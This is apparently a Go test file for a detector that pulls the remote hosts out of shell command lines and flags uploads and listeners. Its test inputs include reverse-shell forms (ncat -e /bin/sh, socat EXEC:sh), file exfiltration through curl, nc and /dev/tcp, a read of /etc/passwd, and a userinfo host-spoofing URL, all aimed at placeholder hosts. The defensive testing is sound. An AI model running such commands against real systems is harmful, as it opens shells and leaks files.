package access

import (
	"fmt"
	"strings"
	"testing"
)

// showHosts prints hosts as "name", "?" for an unknown one, "listen"; "^"
// behind for an upload.
func showHosts(hosts []Host) string {
	var out []string
	for _, h := range hosts {
		s := h.Name
		switch {
		case h.Listen:
			s = "listen"
		case !h.Known:
			s = "?"
		}
		if h.Upload {
			s += "^"
		}
		out = append(out, s)
	}
	return strings.Join(out, " ")
}

var hostTests = []struct{ line, want string }{
	{"curl https://a.example/x", "a.example"},
	{"curl a.example/x", "a.example"},
	{"curl -sSL -m 5 -o out https://A.Example:8443/x", "a.example"},
	{"curl https://u:p@a.example/x", "a.example"},
	{"curl https://good.example@evil.example/", "evil.example"},
	{"curl $URL", "?"},
	{"curl https://$h/x", "?"},
	{"curl https://$u@a.example/x", "?"},
	{"curl https://a.example$x/", "?"},
	{"curl https://a.example/$x", "a.example"},
	{"curl https://{a,b}.example/", "?"},
	{"curl 'https://a.example\\@b.example/'", "?"},
	{"curl http://[::1]:80/", "::1"},
	{"curl -K conf", "?"},
	{"curl --config=conf https://a.example", "? a.example"},
	{"curl -x proxy.example:3128 https://a.example", "proxy.example a.example"},
	{"curl --resolve a.example:443:10.0.0.1 https://a.example", "10.0.0.1 a.example"},
	{"curl --connect-to a.example:443:b.example:443 https://a.example", "b.example a.example"},
	{"curl -d @f https://a.example", "a.example^"},
	{"curl -d x=1 https://a.example", "a.example"},
	{"curl -d $x https://a.example", "a.example^"},
	{"curl -F f=@x https://a.example", "a.example^"},
	{"curl -T f https://a.example", "a.example^"},
	{"curl --data-binary @- https://a.example", "a.example^"},
	{"curl --upload-file f https://a.example", "a.example^"},
	{"curl -H 'X: https://b.example' https://a.example", "a.example"},
	{"curl -e https://ref.example https://a.example", "a.example"},
	{"curl --max-time 5 a.example", "a.example"},
	{"curl file:///etc/passwd", ""},
	{"wget https://a.example/x -O y", "a.example"},
	{"wget -i list", "?"},
	{"wget --post-file=f https://a.example", "a.example^"},
	{"wget -e https_proxy=p.example https://a.example", "p.example a.example"},
	{"http POST a.example/x f@x", "a.example^"},
	{"http a.example k=v", "a.example"},
	{"https a.example", "a.example"},
	{"http :3000/x", "localhost"},
	{"git clone https://a.example/r.git", "a.example"},
	{"git clone git@a.example:o/r.git", "a.example"},
	{"git clone ../r", ""},
	{"git push https://a.example/r main", "a.example^"},
	{"git push origin main", ""},
	{"git fetch origin", ""},
	{"git push $r main", "?^"},
	{"git commit -m https://a.example", ""},
	{"scp f me@a.example:x", "a.example^"},
	{"scp a.example:x .", "a.example"},
	{"scp h:/x .", "h"},
	{"rsync -a src/ a.example:dst", "a.example^"},
	{"rsync -a rsync://a.example/m dst", "a.example"},
	{"rsync -a a b", ""},
	{"rclone copy dir remote:x", "?^"},
	{"aws s3 cp f s3://b/", "?^"},
	{"docker cp c1:/x .", ""},
	{"ssh me@a.example ls", "a.example"},
	{"ssh -p 22 -J jump.example a.example", "jump.example a.example"},
	{"ssh a.example < f", "a.example^"},
	{"sftp a.example", "a.example"},
	{"nc a.example 443", "a.example"},
	{"nc a.example 443 < f", "a.example^"},
	{"nc -l 4444", "listen"},
	{"nc -lvp 4444", "listen"},
	{"ncat -e /bin/sh a.example 1", "a.example"},
	{"socat TCP:a.example:1 EXEC:sh", "a.example^"},
	{"socat TCP-LISTEN:1 -", "listen"},
	{"telnet a.example", "a.example"},
	{"ftp a.example", "a.example"},
	{"aria2c https://a.example/x", "a.example"},
	{"pip install -i https://a.example/s x", "a.example"},
	{"pip install x", ""},
	{"pip install git+https://a.example/r", "a.example"},
	{"npm install --registry https://a.example x", "a.example"},
	{"npm install o/r", "github.com"},
	{"npm install @o/r", ""},
	{"npm install x@https://a.example/x.tgz", "a.example"},
	{"python3 -m http.server 80", "listen"},
	{"python3 -m json.tool f", ""},
	{"php -S 0.0.0.0:80", "listen"},
	{"openssl s_client -connect a.example:443", "a.example"},
	{"frob > /dev/tcp/a.example/1", "a.example^"},
	{"frob < /dev/tcp/a.example/1", "a.example"},
	{"Invoke-WebRequest -Uri https://a.example/x", "a.example"},
	{"Invoke-RestMethod https://a.example -InFile f", "a.example^"},
	{"echo https://a.example", ""},
	{"grep https://a.example f", ""},
}

func TestHosts(t *testing.T) {
	for _, tt := range hostTests {
		if got := showHosts(Hosts(parse(tt.line))); got != tt.want {
			t.Errorf("%s\n got %s\nwant %s", tt.line, got, tt.want)
		}
	}
}

func TestPipedUpload(t *testing.T) {
	c := parse("nc a.example 1")
	c.Context = []string{"pipe-in"}
	if got := fmt.Sprint(Hosts(c)[0].Upload); got != "true" {
		t.Error("what a pipe feeds to nc is not an upload")
	}
}
